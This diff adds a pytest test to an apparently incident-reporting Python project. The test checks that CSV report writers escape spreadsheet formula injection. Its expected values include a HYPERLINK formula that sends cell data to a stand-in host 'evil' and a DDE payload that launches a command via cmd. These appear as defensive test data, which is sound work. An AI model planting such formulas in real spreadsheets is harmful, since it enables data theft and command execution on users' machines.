@@ -195,3 +195,30 @@ def test_markdown_escaping_defuses_links_images_and_html(hostile, escaped):
     assert md_escape(hostile) == escaped
     page = render_markdown([("h1", hostile), ("p", hostile), ("table", hostile, pd.DataFrame({hostile: [hostile]}))])
     assert "](" not in page and "![" not in page and "<img" not in page
+
+
+# ------------------------------------------------------------------------------------------------
+# Issue line 2: formula cells from an incident file are neutralised in incidents.csv and ledger.csv
+# ------------------------------------------------------------------------------------------------
+def test_incident_and_ledger_csvs_neutralise_formulas(tmp_path, boundary):
+    import csv
+
+    from geo_response.compliance import report
+
+    src = HOSTILE / "formulas.csv"
+    before = src.read_bytes()
+    r = incidents.load_incidents(src, boundary)
+    report.write_incidents(r.incidents, tmp_path / "incidents.csv")
+    ledger = pd.DataFrame({"file": [str(src)], "row_number": [2], "incident_id": ["=1+1"], "status": ["rejected"],
+                           "reason": ["unknown_grade"], "detail": ["not a grade: =cmd"]})
+    report.write_ledger(ledger, tmp_path / "ledger.csv")
+    report.write_long(pd.DataFrame({"category": ["@SUM(A1)"], "met": [-1]}), tmp_path / "long.csv")
+    with open(tmp_path / "incidents.csv", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [row["incident_id"] for row in rows] == ["'=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")", "'+441234", "-0.5"]
+    assert [row["category"] for row in rows] == ["'=1+1", "'-1+cmd|' /C calc'!A0", "ok"]
+    with open(tmp_path / "ledger.csv", newline="") as f:
+        assert list(csv.reader(f))[1][1:] == ["2", "'=1+1", "rejected", "unknown_grade", "not a grade: =cmd"]
+    with open(tmp_path / "long.csv", newline="") as f:
+        assert list(csv.reader(f)) == [["category", "met"], ["'@SUM(A1)", "-1"]]
+    assert src.read_bytes() == before
